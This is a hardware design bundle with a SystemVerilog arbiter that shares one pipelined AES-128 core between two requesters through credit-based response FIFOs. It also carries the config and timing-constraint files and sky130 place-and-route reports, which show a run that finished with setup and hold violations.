--- src/rtl/aes_core_arbiter.sv ---
// Round-robin arbiter sharing one pipelined aes_128 core between two requesters,
// with credit-based admission into per-channel in-order response FIFOs.
module aes_core_arbiter #(
  parameter int LAT        = 21,
  parameter int FIFO_DEPTH = 4
) (
  input  logic         clk,
  input  logic         rst,
  input  logic         req0_valid,
  output logic         req0_ready,
  input  logic [127:0] req0_state,
  input  logic [127:0] req0_key,
  input  logic         req1_valid,
  output logic         req1_ready,
  input  logic [127:0] req1_state,
  input  logic [127:0] req1_key,
  output logic [127:0] core_state,
  output logic [127:0] core_key,
  input  logic [127:0] core_out,
  output logic         rsp0_valid,
  input  logic         rsp0_ready,
  output logic [127:0] rsp0_data,
  output logic         rsp1_valid,
  input  logic         rsp1_ready,
  output logic [127:0] rsp1_data,
  output logic         busy
);

  localparam int PW = (FIFO_DEPTH > 1) ? $clog2(FIFO_DEPTH) : 1;
  localparam int CW = $clog2(FIFO_DEPTH + 1);

  logic [1:0]   req_valid, rsp_ready, elig, gnt, cr_ok, push, pop, rsp_valid_w;
  logic [127:0] rsp_data_w [2];
  logic         run_q, last_q;
  logic [LAT:0] tag_vld_q, tag_ch_q;
  logic         out_vld_q, out_ch_q;
  logic [127:0] out_data_q, core_state_q, core_key_q;

  assign req_valid = {req1_valid, req0_valid};
  assign rsp_ready = {rsp1_ready, rsp0_ready};

  // run_q holds off grants until the first edge after reset release
  always_comb begin
    elig = req_valid & cr_ok & {2{run_q}};
    gnt  = elig;
    if (elig == 2'b11) gnt = last_q ? 2'b01 : 2'b10;
  end

  assign req0_ready = gnt[0];
  assign req1_ready = gnt[1];
  assign core_state = core_state_q;
  assign core_key   = core_key_q;

  // Tag stage LAT lines up with core_out; out_* adds one capture register
  // so core_out is sampled by a flop before the FIFO write.
  always_ff @(posedge clk or negedge rst) begin
    if (!rst) begin
      run_q        <= 1'b0;
      last_q       <= 1'b1;
      core_state_q <= '0;
      core_key_q   <= '0;
      tag_vld_q    <= '0;
      tag_ch_q     <= '0;
      out_vld_q    <= 1'b0;
      out_ch_q     <= 1'b0;
      out_data_q   <= '0;
    end else begin
      run_q <= 1'b1;
      if (|gnt) last_q <= gnt[1];
      core_state_q <= gnt[0] ? req0_state : (gnt[1] ? req1_state : '0);
      core_key_q   <= gnt[0] ? req0_key   : (gnt[1] ? req1_key   : '0);
      tag_vld_q    <= {tag_vld_q[LAT-1:0], |gnt};
      tag_ch_q     <= {tag_ch_q[LAT-1:0], gnt[1]};
      out_vld_q    <= tag_vld_q[LAT];
      out_ch_q     <= tag_ch_q[LAT];
      out_data_q   <= core_out;
    end
  end

  for (genvar i = 0; i < 2; i++) begin : g_ch
    logic [127:0]  mem_q [FIFO_DEPTH];
    logic [PW-1:0] wr_q, rd_q;
    logic [CW-1:0] cnt_q, cr_q;

    assign push[i]        = out_vld_q && (out_ch_q == 1'(i));
    assign pop[i]         = rsp_valid_w[i] && rsp_ready[i];
    assign rsp_valid_w[i] = (cnt_q != '0);
    assign rsp_data_w[i]  = mem_q[rd_q];
    assign cr_ok[i]       = (cr_q != '0);

    // Credit covers both in-flight and queued blocks, so a push never finds the FIFO full.
    always_ff @(posedge clk or negedge rst) begin
      if (!rst) begin
        for (int k = 0; k < FIFO_DEPTH; k++) mem_q[k] <= '0;
        wr_q  <= '0;
        rd_q  <= '0;
        cnt_q <= '0;
        cr_q  <= CW'(FIFO_DEPTH);
      end else begin
        if (push[i]) begin
          mem_q[wr_q] <= out_data_q;
          wr_q        <= wr_q + 1'b1;
        end
        if (pop[i]) rd_q <= rd_q + 1'b1;
        case ({push[i], pop[i]})
          2'b10:   cnt_q <= cnt_q + 1'b1;
          2'b01:   cnt_q <= cnt_q - 1'b1;
          default: ;
        endcase
        case ({gnt[i], pop[i]})
          2'b10:   cr_q <= cr_q - 1'b1;
          2'b01:   cr_q <= cr_q + 1'b1;
          default: ;
        endcase
      end
    end
  end

  assign rsp0_valid = rsp_valid_w[0];
  assign rsp1_valid = rsp_valid_w[1];
  assign rsp0_data  = rsp_data_w[0];
  assign rsp1_data  = rsp_data_w[1];
  assign busy       = (|tag_vld_q) | out_vld_q | (|rsp_valid_w);

endmodule

--- config.mk ---
export PLATFORM = sky130hd
export DESIGN_NAME = aes_core_arbiter
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/aes_core_arbiter.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 2
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__clkbuf_2
export CORE_AREA = 4 4 445 447
export CTS_BUF_LIST = sky130_fd_sc_hd__clkbuf_4 sky130_fd_sc_hd__clkbuf_8
export DETAILED_ROUTE_END_ITERATION = 12
export DIE_AREA = 0 0 449 451
export GPL_TIMING_DRIVEN = 1
export PLACE_DENSITY = 0.54
export SETUP_SLACK_MARGIN = 0.5
export SKIP_LAST_GASP = 1
export SLEW_MARGIN = 5
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
--- constraint.sdc ---
create_clock -name clk -period 2.5 [get_ports clk]
set_input_delay 0.25 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0.25 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
==> flow_summary.yaml <==
synth:
  ys_types: 32
  synth_top_area_cell: "dfrtp_1"
  yosysWarnings: 0
  syn_area_per_cell_um2: 17.5
  synth.area.top_cells: "dfrtp_1, mux2_2, mux4_2"
  synth_top_cell_area_share: 0.633
  synth_seq_cells: 1476
  ys_seq_area_frac: 0.634
  synthesis.nets: 3997
  syn_area_um2: 58200
  syn_inst: 3335
sta:
  fin_ws_ns: -0.456
  setup_viol: 327
  slew_viol_final: 0
  finalHoldViolCount: 3
  slew_headroom: 0.605
  fin_skew_ns: 0.0768
  fin_crit_ns: 2.96
  grt_setup_unrepaired: "true"
  holdWs_ns: -0.104
  fmax_mhz: 338
  worst_pin_slew_ns: 0.593
  finalCritPeriodShare: 1.18
outcome:
  status: "finished with violations"
  violations: "negative hold slack, negative setup slack"
clocking:
  clk_latency_ns: 0.99
  cts-root-buf: "clkbuf_8"
  path_clk_slew_ns: 0.06
  clock-sinks: 1476
  ctsHtreeMaxLevel: 5
  numCtsBuffers: 292
  cts_tree: "yes"
  clk_path_buf_depth: 4
drt:
  drtIter0Drc: 2753
  dr_wl_met2_um: 135000
  vias: 42700
  wire_per_inst_um: 32.5
  first_pass_iters: 5
  wl_met3_um: 22000
  postRouteAntennaNets: 0
  drt-total-wl_um: 281000
  met1_length_um: 104000
  viasPerCell: 4.94
  top_layer: "met5"
  drc: 0
grt:
  grt_overflow: 0
  grt_usage: 0.273
  grt_start_max_net_pins: 98
  antenna_found_initial: 142
  grt_pass1_vias: 46500
  grt_pass1_wl_um: 383000
floorplan:
  design.core.area_um2: 194000
  rows: 162
  io_pins: 1163
  die_height_um: 451
  die-area_um2: 202000
  initial_core_util: 0.300
  die_w_um: 449
worst_setup_path:
  crit_type: "flop to primary output"
  worstPathArrival_ns: 2.71
  crit_slowest_cell: "mux4_2"
  reg2reg_depth: 11
  r2r_slack_ns: -0.22
  timing.rr.end: "g_ch[0].cr_q[2]$_DFFE_PN1P_"
  critPathMostFrequentCell: "buf_12"
  worstReg2RegStart: "g_ch[1].cr_q[2]$_DFFE_PN1P_"
  critPathRequiredTime_ns: 2.25
  cpPeakStageDelay_ns: 0.54
  cp_cell_sequence: "buf_12 -> buf_12 -> buf_12 -> mux4_2 -> clkbuf_2"
  critPathCaptureType: "primary output"
  critPathLaunchType: "flop"
  cp_max_fo: 12
min_path:
  hold-path-endpoint: "g_ch[1].cr_q[0]$_DFFE_PN0P_"
  whs_path_depth: 6
  hp-class: "input pin to flop"
  hp-start: "req1_valid"
cells_and_area:
  n_fill_cell: 17800
  post_route_cells_drive_above_1_share: 0.533
  area_growth_pct: 48.0
  fin_cells: 8647
  mostFrequentLayoutCells: "dfrtp_1, clkbuf_2, mux2_2, dlygate4sd3_1, clkbuf_8"
  final_common_cell: "dfrtp_1"
  finalNetCount: 6474
power:
  leakagePower_nw: 41.0
  seqPwrFrac: 0.356
  vdd_drop_max_mv: 0.505
  power_frac_comb: 0.400
  power.density_nw_per_um2: 1200
  p_sw_w: 0.0361
  power_w: 0.104
  p_clk_frac: 0.244
  internal-power_w: 0.0676
  swShare: 0.349
placement:
  dp.cells: 7002
  portBuffers: 1162
  dp_hpwl_um: 211000
  gp_congestion: 1.10
flow_run:
  max_cap_violations: 0
==> per-layer routing <==
metal	global-route usage	vias to the layer above
li1	-	17600
met1	0.310	22800
met2	0.447	1714
met3	0.0914	615
met4	0.164	12
met5	0	-
==> cells by family after synthesis <==
group / after synthesis / synth area share
xor gates and xnor gates: 18 / 0.00271
adders and majority gates: 16 / 0.00395
AOI/OAI and AO/OA: 261 / 0.0392
buffers and inverters: 242 / 0.0188
other: 1 / 0.0000644
and+or+nand+nor: 36 / 0.00314
muxes: 1285 / 0.298
DFF: 1476 / 0.634
==> cell type report <==
cell class | count | area (µm²) | area share
inverters | 15 | 75.1 | 0.000871
multi-input cells | 1617 | 20300 | 0.236
flip-flops and latches | 1476 | 37000 | 0.429
repair inverters | 1 | 8.76 | 0.000102
diodes | 103 | 258 | 0.00299
clock inverters | 36 | 347 | 0.00402
well taps | 2542 | 3180 | 0.0369
repair buffers | 2409 | 19500 | 0.226
clock buffers | 448 | 5580 | 0.0648
==> worst max-delay path, delay by kind of cell (launching register included) <==
family	cells	cell delay [ns]
buffers and inverters	4	0.68
flip-flops	1	0.41
multiplexers	1	0.54
==> per-stage QoR <==
step | TNS (ns) | area (µm²) | util | setup slack (ns)
floorplan | 0 | 58300 | - | 0.223
global placement | 0 | 68700 | 0.354 | 0.00943
detailed placement | 0 | 68700 | 0.354 | 0.0306
CTS | -141.30 | 85600 | 0.441 | -0.626
global route | -142.31 | 86100 | 0.443 | -0.594
finish | -100.47 | 86200 | 0.444 | -0.456
==> cell usage after synthesis <==
cell type / instances
a21o_1: 1
a22o_1: 256
a311oi_2: 1
and2_1: 3
buf_1: 18
buf_2: 83
buf_4: 22
clkbuf_1: 104
conb_1: 1
dfrtp_1: 1473
dfstp_2: 3
fa_1: 4
ha_1: 12
inv_1: 14
inv_2: 1
mux2_2: 1027
mux2i_1: 2
mux4_2: 256
nand2_1: 8
nand3_1: 7
nand4_1: 1
nor2_1: 5
nor2b_1: 1
nor3_1: 2
nor4_1: 5
o21a_1: 1
o21ai_0: 1
o311ai_0: 1
or3_1: 3
or4_1: 1
xnor2_1: 8
xor2_1: 10
==> power groups by stage <==
stage                     clock (W)  combinational [W]  sequential (W)
after floorplan                   0             0.0229          0.0362
after detailed placement          0             0.0372          0.0376
final                        0.0253             0.0415          0.0369
after global placement            0             0.0367          0.0373
after CTS                    0.0261             0.0415          0.0368
after global routing         0.0272             0.0437          0.0378
==> worst max path at each step <==
stage                     slack (ns)  cells past startpoint                     endpoint                   startpoint
after floorplan                 0.22                      8  g_ch[1].cr_q[1]$_DFFE_PN0P_  g_ch[0].cr_q[1]$_DFFE_PN0P_
after global placement         0.009                      9  g_ch[0].cr_q[2]$_DFFE_PN1P_  g_ch[1].cr_q[2]$_DFFE_PN1P_
after detailed placement        0.03                      9  g_ch[0].cr_q[2]$_DFFE_PN1P_  g_ch[1].cr_q[2]$_DFFE_PN1P_
after CTS                      -0.63                      5                rsp0_data[12]  g_ch[0].rd_q[0]$_DFFE_PN0P_
after global routing           -0.59                      5                rsp0_data[59]  g_ch[0].rd_q[0]$_DFFE_PN0P_
final                          -0.46                      5                rsp0_data[59]  g_ch[0].rd_q[0]$_DFFE_PN0P_
==> timing repair <==
item	in CTS	in global routing
pin swaps	2	1
setup buffers	39	6
hold endpoints to repair	1868	4
gates cloned	8	4
endpoints found under the setup margin	1016	1071
resized for setup	110	103
hold buffers	1000	1
==> flip-flops by register name, summed over array words and instances, names as in the netlist, 4 cells and up <==
signal / cells
g_ch.rd_q: 4
tag_ch_q: 22
g_ch.wr_q: 4
core_key: 128
out_data_q: 128
g_ch.cr_q: 6
g_ch.cnt_q: 6
tag_vld_q: 22
g_ch.mem_q: 1024
core_state: 128
Note: power is estimated with default switching activity, not from simulation.
